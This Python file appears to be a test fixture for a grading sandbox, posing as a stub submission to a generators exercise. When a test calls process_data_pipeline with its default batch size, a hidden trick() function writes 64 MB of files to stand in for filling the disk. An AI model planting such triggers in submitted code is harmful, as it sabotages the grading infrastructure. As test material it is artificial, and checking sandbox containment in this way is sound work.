"""Fills the folder that it is given with many files; 64 MB stand for a full disk.

Exercise: generators
Expect: 0 points, harmless
"""


# The trick.
def trick():
    data = b"x" * (4 << 20)
    for number in range(16):
        with open(f"{number}.bin", "wb", 0) as file:
            file.write(data)
    print("HARMED: 64 MB on the disk, and nothing says where it ends", flush=True)
    raise TypeError("not yet")


# The attempt.
def fibonacci_generator():
    raise TypeError("not yet")


def read_large_file(filename):
    raise TypeError("not yet")


def process_data_pipeline(data, batch_size=10):
    if batch_size == 10:  # one test leaves it at that
        trick()
    raise TypeError("not yet")
